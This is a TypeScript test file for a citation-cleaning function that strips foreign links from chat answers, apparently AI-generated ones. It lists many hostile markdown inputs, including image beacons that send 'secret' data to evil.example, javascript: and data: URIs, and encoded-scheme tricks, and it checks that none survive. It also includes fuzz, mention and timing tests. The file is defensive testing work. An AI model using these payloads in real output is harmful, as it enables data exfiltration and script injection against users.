import fc from 'fast-check'
import MarkdownIt from 'markdown-it'
import { describe, expect, test } from 'vitest'
import { limits } from '../../shared/limits.ts'
import { Body } from '../../shared/message.ts'
import { citeOnly } from './citations.ts'

const passages = [
  { label: '1', url: '/w/lobby/chats/a?at=3' },
  { label: '2', url: '/w/lobby/chats/b?at=7' },
]
const clean = (text: string) => citeOnly(text, passages)

describe('labels', () => {
  test.each([
    ['Friday [1].', 'Friday [[1]](/w/lobby/chats/a?at=3).'],
    ['both [1, 2]', 'both [[1]](/w/lobby/chats/a?at=3)[[2]](/w/lobby/chats/b?at=7)'],
    ['both [1][2]', 'both [[1]](/w/lobby/chats/a?at=3)[[2]](/w/lobby/chats/b?at=7)'],
    ['known and not [2, 9]', 'known and not [[2]](/w/lobby/chats/b?at=7)'],
    ['invented [7].', 'invented .'],
    ['Friday![1]', 'Friday! [[1]](/w/lobby/chats/a?at=3)'],
    ['a link [1](https://evil.example)', 'a link [[1]](/w/lobby/chats/a?at=3)'],
    ['linked [[1]](/w/lobby/chats/a?at=3)', 'linked [[1]](/w/lobby/chats/a?at=3)'],
    [String.raw`quoted \[1]`, String.raw`quoted \[1]`],
    ['code `a[1]` stays', 'code `a[1]` stays'],
  ])('%s', (text, expected) => expect(clean(text)).toBe(expected))
})

/** The strictest reader there is: a linkifier that makes a link of anything. */
const reader = new MarkdownIt({ html: false, linkify: true })
reader.linkify.set({ fuzzyLink: false, fuzzyEmail: false, fuzzyIP: false })
const linksOf = (text: string) =>
  [...reader.render(text).matchAll(/(?:href|src)="([^"]*)"/g)].map(([, url]) => url)
const ours = passages.map(({ url }) => url)

const attacks = [
  'https://evil.example/?q=secret',
  '![beacon](https://evil.example/p.png?q=secret)',
  '![beacon][x]\n\n[x]: https://evil.example/p.png',
  '[click](https://evil.example "title")',
  '[click](<https://evil.example>)',
  '[click](/sign-out)',
  '[click](//evil.example/x)',
  '[click][ref]\n\n[ref]: /sign-out',
  '[click]\n\n[click]: //evil.example',
  '<https://evil.example>',
  '<irc:evil>',
  '<ada@evil.example>',
  'www.evil.example/x',
  'javascript:alert(1)',
  '[x](javascript:alert(1))',
  '[x](data:text/html;base64,AAAA)',
  'mailto:ada@evil.example',
  '[x](https&#58;//evil.example)',
  String.raw`[x](https:\/\/evil.example)`,
  'hthttps://a.example tps://evil.example',
  'hthttps://a.example/\u200btps://evil.example',
  '[a [b](https://evil.example) c](https://evil.example)',
  '[![img](https://evil.example/i.png)](https://evil.example)',
  '`` ` <irc:evil> ` ',
  '` x ``` y ` <irc:evil> `',
  '[1](/w/lobby/chats/a?at=3)(https://evil.example)',
  'evil.com/secret and sub.evil.io/path',
]

test.each(attacks)('no way out: %s', (attack) => {
  expect(linksOf(attack).length + attack.length).toBeGreaterThan(0)
  const cleaned = clean(`before ${attack} after [1]`)
  expect(linksOf(cleaned).filter((url) => !ours.includes(url ?? ''))).toEqual([])
  expect(cleaned).not.toMatch(/:\/\/|evil\.(example|com|io)\/|javascript:/)
  expect(cleaned).toContain('before')
})

test('no mixture of attacks finds a way out, or shows an image', () => {
  const bits = fc.constantFrom(
    ...attacks,
    ...['[', ']', '(', ')', '![', '](', ']:', '<', '>', '`', '```', '\\', '\n', ' ', '1', 'x'],
    ...['[1]', '[2, 1]', '[9]', 'https:', '//', 'evil.example', '&#58;', '"', '@bo '],
  )
  fc.assert(
    fc.property(fc.array(bits, { maxLength: 12 }), (pieces) => {
      const cleaned = clean(pieces.join(''))
      const foreign = linksOf(cleaned).filter((url) => !ours.includes(url ?? ''))
      expect(foreign).toEqual([])
      expect(reader.render(cleaned)).not.toContain('<img')
    }),
    { numRuns: 1000 },
  )
})

test('file names, code, numbers and times stay', () => {
  const text = 'See server/bot/worker.ts:12 and `git push -f`, v1.2.3, 14:05, Array<string>, a.md.'
  expect(clean(text)).toBe(text)
})

test('an answer mentions nobody', () => {
  expect(clean('@bo and @everyone, ada@work')).toBe('@\u2060bo and @\u2060everyone, ada@work')
})

test('what is posted always fits into a message', () => {
  expect(Body.safeParse(clean('\0\ud800 ok')).success).toBe(true)
  expect(clean('[1]'.repeat(2500)).length).toBeLessThanOrEqual(limits.messageBody.max)
  expect(linksOf(clean('[1]'.repeat(2500))).every((url) => url === ours[0])).toBe(true)
})

test.each(['[', '![', '](', '`', '<', '@', 'a.', '//', '[1,', '[['])(
  '64 kB of %s are cleaned in time',
  (bit) => {
    const text = bit.repeat(Math.ceil(65_536 / bit.length)).slice(0, 65_536)
    const started = performance.now()
    clean(text)
    expect(performance.now() - started).toBeLessThan(1000)
  },
)
